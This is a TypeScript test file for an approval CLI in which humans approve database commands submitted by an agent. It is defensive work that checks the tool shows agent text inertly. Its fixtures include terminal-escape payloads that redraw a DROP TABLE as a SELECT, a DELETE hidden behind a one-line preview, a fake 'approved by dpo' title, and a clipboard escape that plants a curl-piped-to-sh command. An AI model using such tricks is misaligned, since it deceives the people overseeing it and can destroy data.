// Round 11 review of the auditor's tools, against the real apiserver: what an approver sees of an
// ApprovalRequest before deciding it. spec.command.text is the agent's command exactly as the
// sidecar will run it (the webhook checks that preview and sha256 are the text's, nothing else), and
// spec.purpose is the purpose the agent declared. Each test here failed on the code reviewed
// (docs/security-model.md, "Round 11 review: the auditor's tools").
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { kubectl, kubeconfigPath } from '../../e2e/harness/state.ts';
import { toYaml } from '../../e2e/support/examples.ts';
import { commandPreview, commandProblems, commandSha256 } from '../../core/approvals/command.ts';
import { main } from '../src/main.ts';
import { fakeIo } from './fake-io.ts';
import { spawnCli } from './spawn-cli.ts';
import { requireKube } from '../../e2e/harness/state.ts';
import { accessPolicy } from '../../e2e/support/access-policy.ts';
import { apply, createNamespaces, grantSessionReaders } from '../../e2e/support/kube-apply.ts';
import { installCrds, suffix } from '../../e2e/support/kubectl.ts';
import { operatorFixture, startOperator, waitServing, type OperatorProcess } from '../../e2e/support/operator-process.ts';
import { sidecarClient } from '../../e2e/support/sidecar-client.ts';
import { runCli } from './run-cli.ts';
import { loadKube } from '../src/kube.ts';
import { appendReview, getApprovalRequest } from '../src/approval-requests.ts';

jest.setTimeout(120_000);

const ns = `cli-r11-${randomBytes(4).toString('hex')}`;
const admin = { user: 'admin' } as const;

// eslint-disable-next-line no-control-regex -- control characters are what is matched
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;
const activeIn = (text: string): string[] => [...text].filter((c) => ACTIVE.test(c)).map((c) => `U+${c.charCodeAt(0).toString(16).padStart(4, '0')}`);

// The SQL PostgreSQL runs: DROP TABLE, then a comment. In the comment: CR, erase the line, and a
// harmless command drawn where the approver reads "command:", then conceal (SGR 8) for the rest.
const HIDDEN = 'DROP TABLE customers; /*\r\u001b[2K  command:   SELECT id, status FROM orders WHERE id = 7\u001b[8m */';
// A multi-line statement whose first line is harmless: the preview is the first line only.
const MULTILINE = 'SELECT id, status FROM orders WHERE id = 7\n;\nDELETE FROM customers';

function request(name: string, text: string, purpose = 'customer-support'): Record<string, unknown> {
  const command = { text, preview: commandPreview(text), sha256: commandSha256(text) };
  expect(commandProblems(command)).toEqual([]); // one the admission webhook admits
  return {
    apiVersion: 'guarita.io/v1alpha1', kind: 'ApprovalRequest', metadata: { name, namespace: ns },
    spec: {
      policyRef: { name: 'orders-db' }, rule: 'writes-need-dpo', requester: { username: 'support-agent', groups: ['support'], kind: 'User' },
      purpose, target: { name: 'orders-db', protocol: 'postgres' }, command,
      podRef: { name: 'support-agent' }, sessionId: 's-1', expiresAt: '2030-01-01T00:00:00Z', reviews: [],
    },
  };
}

async function cli(args: string[]): Promise<{ code: number; out: string; err: string }> {
  const io = fakeIo({ env: { KUBECONFIG: kubeconfigPath('dana') } });
  let code: number;
  try {
    code = await main([...args, '-n', ns], io);
  } catch (err) {
    io.stderr.write(err instanceof Error ? err.message : String(err));
    code = 1;
  }
  return { code, out: io.out(), err: io.err() };
}

beforeAll(async () => {
  expect((await kubectl(['apply', '-f', join(import.meta.dirname, '../../crds')], admin)).code).toBe(0);
  expect((await kubectl(['create', 'namespace', ns], admin)).code).toBe(0);
  const rbac = [
    { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', metadata: { name: 'approver', namespace: ns }, rules: [{ apiGroups: ['guarita.io'], resources: ['approvalrequests'], verbs: ['get', 'list', 'watch', 'patch'] }] },
    { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'dpo-approvers', namespace: ns }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'approver' }, subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: 'dpo' }] },
    request('hidden-drop', HIDDEN), request('hidden-drop-deny', HIDDEN), request('multi-line', MULTILINE),
    request('purpose-escape', 'SELECT 1', 'customer-support\u001b]0;approved by dpo\u0007\u202e'),
    request('recreated', 'SELECT 1'),
  ];
  expect((await kubectl(['apply', '-f', '-'], { ...admin, input: toYaml(rbac) })).code).toBe(0);
});

describe('guarita approve/deny: what the approver is shown is what is decided', () => {
  it('approve shows the command inert: its escapes cannot redraw the DROP as a SELECT (the real command, its stderr as the terminal gets it)', async () => {
    const result = await spawnCli(['approve', 'hidden-drop', '-n', ns, '--reason', 'read-only lookup'], { KUBECONFIG: kubeconfigPath('dana'), PATH: process.env.PATH ?? '' });
    expect(result.code).toBe(0); // approved
    expect(result.stderr).toContain('DROP TABLE customers');
    expect(activeIn(result.stderr)).toEqual([]);
    // The escapes are shown, not dropped: the approver reads what the agent wrote.
    expect(result.stderr).toContain('DROP TABLE customers; /*\\u000d\\u001b[2K  command:   SELECT id');
  });

  it('deny shows it inert too (the same describe)', async () => {
    const result = await cli(['deny', 'hidden-drop-deny', '--reason', 'no']);
    expect(result.code).toBe(0);
    expect(activeIn(result.err)).toEqual([]);
    expect(result.err.split('\n').filter((l) => /^\s*command\b/.test(l))).toHaveLength(1);
  });

  it('the purpose the agent declared is shown inert', async () => {
    const result = await cli(['deny', 'purpose-escape', '--reason', 'no']);
    expect(result.code).toBe(0);
    expect(activeIn(result.err)).toEqual([]);
    expect(result.err).toContain('purpose:   customer-support\\u001b]0;approved by dpo\\u0007\\u202e');
  });

  it('approvals list says a command goes on past the line it shows (the preview is the first line, with no mark)', async () => {
    const result = await cli(['approvals', 'list', '--pending']);
    expect(result.code).toBe(0);
    const row = result.out.split('\n').find((l) => l.startsWith('multi-line')) ?? '';
    expect(row).toContain('SELECT id, status FROM orders WHERE id = 7');
    // The approver decides from this row ('guarita approve NAME' asks nothing more): it must show
    // that lines follow (or the DELETE), as a preview cut at 80 characters ends in "...".
    expect(row).toMatch(/DELETE FROM customers|\.\.\.|…|\(\+\d+ lines?\)/);
    // Fixed: the cell is the text's first line and a count of the lines after it.
    expect(row).toContain('SELECT id, status FROM orders WHERE id = 7 ⏎… (+2 lines)');
  });

  it('a request deleted and created again under its name between showing and deciding is refused, not decided (uid test)', async () => {
    const kube = loadKube({ namespace: ns }, { KUBECONFIG: kubeconfigPath('dana') });
    const shown = await getApprovalRequest(kube, 'recreated');
    expect((await kubectl(['delete', 'approvalrequest', 'recreated', '-n', ns], admin)).code).toBe(0);
    expect((await kubectl(['apply', '-f', '-'], { ...admin, input: toYaml([request('recreated', 'DELETE FROM customers')]) })).code).toBe(0);
    await expect(appendReview(kube, shown, 'Approved', 'read the SELECT')).rejects.toThrow();
    const now = await getApprovalRequest(kube, 'recreated');
    expect(now.spec.reviews ?? []).toEqual([]);
  });

  it('what held: the table shows the command preview of an escaped request inert', async () => {
    const result = await cli(['approvals', 'list']);
    expect(result.code).toBe(0);
    expect(activeIn(result.out)).toEqual([]);
  });
});

describe('guarita replay through the real operator: a signed record\'s text on the auditor\'s terminal', () => {
  const id = suffix();
  const recNs = `cli-r11rec-${id}`;
  let op: OperatorProcess | undefined;

  beforeAll(async () => {
    await installCrds();
    const fx = await operatorFixture(`cli-r11op-${id}`);
    await createNamespaces(recNs);
    await apply([accessPolicy(recNs, 'orders-db')]);
    await grantSessionReaders(recNs, { kind: 'Group', name: 'auditors' });
    op = await startOperator({ ...fx, watchNamespaces: [recNs] });
    await waitServing(op);
    const sc = await sidecarClient(recNs, 'agent', 'agent-r11');
    expect((await sc.register(op.url)).status).toBe(201);
    const base = { policy: 'orders-db', target: 'orders-db', sessionId: 's-r11', subject: 'support-agent' };
    const records = [
      ...sc.next(1, { ...base, type: 'session.start', decision: 'allow', reason: 'from 10.0.0.7', command: undefined, result: undefined }),
      // Allowed and run: the DROP, with the rest of the line redrawn as a SELECT and the clipboard set.
      ...sc.next(1, { ...base, command: `${HIDDEN.replace('  command:   ', 'support-agent> ')}\u001b]52;c;Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9wIHwgc2gK\u0007`, decision: 'allow', rule: 'allow-the-rest', result: { rows: 0, bytes: 0 } }),
      ...sc.next(1, { ...base, type: 'session.end', reason: 'closed by the client', command: undefined, result: undefined }),
    ];
    expect((await sc.send(op.url, records)).status).toBe(200);
  }, 180_000);

  afterAll(async () => {
    await op?.stop();
  });

  it('replay shows the recorded command inert (the records verify: the text is the agent\'s, signed by its sidecar)', async () => {
    const r = await runCli(['replay', 's-r11', '--no-timing', '-n', recNs], { env: { KUBECONFIG: kubeconfigPath('audrey'), GUARITA_OPERATOR_URL: op!.url, GUARITA_OPERATOR_CA: requireKube().caFile } });
    expect(r.code).toBe(0);
    expect(r.err).toContain('each intact and proven');
    expect(r.out).toContain('DROP TABLE customers');
    expect(activeIn(r.out)).toEqual([]);
  });
});
